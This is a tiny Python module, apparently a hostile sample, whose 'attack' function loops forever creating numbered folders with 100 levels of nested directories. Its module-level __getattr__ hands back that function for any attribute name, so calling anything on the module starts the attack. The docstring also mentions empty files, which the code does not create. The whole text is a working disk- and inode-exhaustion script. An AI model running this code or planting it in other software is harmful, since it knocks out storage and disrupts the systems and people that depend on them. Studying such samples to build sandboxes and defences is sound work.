"""Makes empty files and deep folders until nothing more is taken."""

import itertools
import os


def attack(*arguments, **keywords):
    for number in itertools.count():
        os.makedirs(f"{number}/" + "d/" * 100)


def __getattr__(name):
    return attack
